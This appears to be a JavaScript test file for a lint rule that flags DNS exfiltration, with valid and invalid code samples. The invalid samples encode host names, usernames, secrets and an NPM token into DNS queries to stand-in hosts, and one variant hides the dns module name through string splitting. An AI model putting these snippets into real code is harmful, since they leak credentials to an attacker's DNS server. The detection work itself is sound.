import rule from '../../rules/dns-exfiltration.js';
import { ruleTester } from '../rule-tester.js';

const D = 'const dns = require("dns"), os = require("os");\n';

ruleTester(rule, {
  valid: [
    D + 'dns.lookup("registry.npmjs.org", cb);',
    D + 'dns.lookup(hostname, cb);',
    D + 'dns.resolveTxt(`_acme-challenge.${domain}`, cb);',
    D + 'dns.resolve4(`${service}.internal.example.com`, cb);',
    D + 'const url = new URL(input); dns.lookup(url.hostname, cb);',
    D + 'dns.lookup(os.hostname(), cb);',
    'const lookup = (h) => h; lookup(Buffer.from(secret).toString("hex") + ".x.example.com");',
    'require("child_process").execSync("nslookup registry.npmjs.org");',
    { code: D + 'dns.resolve4(ip.split(".").reverse().join(".") + ".zen.spamhaus.org", cb);', name: 'a DNSBL lookup' },
    D + 'dns.lookup(`${name.toLowerCase()}.svc.cluster.example`, cb);',
    'require("child_process").execSync(`ping -c 1 ${host}`);',
  ],
  invalid: [
    { code: D + 'dns.lookup(Buffer.from(os.hostname()).toString("hex") + ".x.example.com", () => {});', errors: [{ messageId: 'lookup', line: 2, column: 1, message: 'the host name' }] },
    {
      code: D + 'const data = Buffer.from(JSON.stringify(payload)).toString("hex");\nfor (const chunk of data.match(/.{1,60}/g)) dns.resolve4(`${chunk}.d.x.example.com`, () => {});',
      errors: [{ messageId: 'lookup', line: 3, column: 45, message: 'encoded data' }],
    },
    {
      code: D + 'const zone = ".x.example";\nfunction q(label) { return dns.promises.resolveTxt(label + zone); }\nq(btoa(secret).replace(/=/g, ""));',
      errors: [{ messageId: 'lookup', line: 3, column: 28 }],
    },
    { code: D + 'const r = new dns.Resolver();\nr.resolve(`${encodeURIComponent(process.env.NPM_TOKEN)}.t.x.example`, cb);', errors: [{ messageId: 'lookup', line: 3, column: 1, message: 'secret' }] },
    { code: 'import { lookup } from "node:dns/promises";\nawait lookup(`${process.env.USER}.${require("os").hostname()}.oast.example`);', filename: 'x.mjs', errors: [{ messageId: 'lookup', line: 2, column: 7 }] },
    { code: 'const cp = require("child_process");\ncp.execSync(`nslookup ${Buffer.from(secret).toString("hex")}.x.example.com`);', errors: [{ messageId: 'lookup', line: 2, column: 1 }] },
    { code: 'const d = require("d" + "ns");\nd["look" + "up"](require("os").userInfo().username + ".u.x.example", () => {});', errors: [{ messageId: 'lookup', line: 2, column: 1 }] },
  ],
});
